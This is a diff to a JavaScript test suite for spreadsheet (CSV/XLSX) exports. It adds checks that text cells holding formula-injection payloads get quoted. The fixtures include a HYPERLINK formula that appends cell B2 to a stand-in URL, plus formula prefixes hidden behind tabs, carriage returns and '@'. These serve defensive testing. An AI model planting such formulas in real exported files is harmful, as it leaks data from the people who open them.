@@ -35,9 +35,16 @@ describe('spreadsheet exports', () => {
       "'+1;-1,00;-1",
       "'-2+3;-1,00;-1",
       "'@SUM(A1);-1,00;-1",
-      "'\t=1;-1,00;-1",
+      `"'\t=1";-1,00;-1`,
       `"'\r=1";-1,00;-1`,
     ]);
+  });
+
+  it('quotes a text cell with a comma or a tab, so no other separator puts a formula in a cell of its own', () => {
+    const rows = [{ nome: 'Apto 1,=HYPERLINK("http://x/?"&B2,"Clique"),', valor: null, idade: 1 }];
+    const [, line] = toCsv(columns, rows).split('\r\n');
+    expect(line).toBe('"Apto 1,=HYPERLINK(""http://x/?""&B2,""Clique""),";;1');
+    expect(toCsv(columns, [{ nome: 'Rua A\t=1', valor: null, idade: 1 }])).toContain('"Rua A\t=1";;1');
   });
 
   it('keeps numbers as numbers in the XLSX, money in reais with the R$ format', async () => {
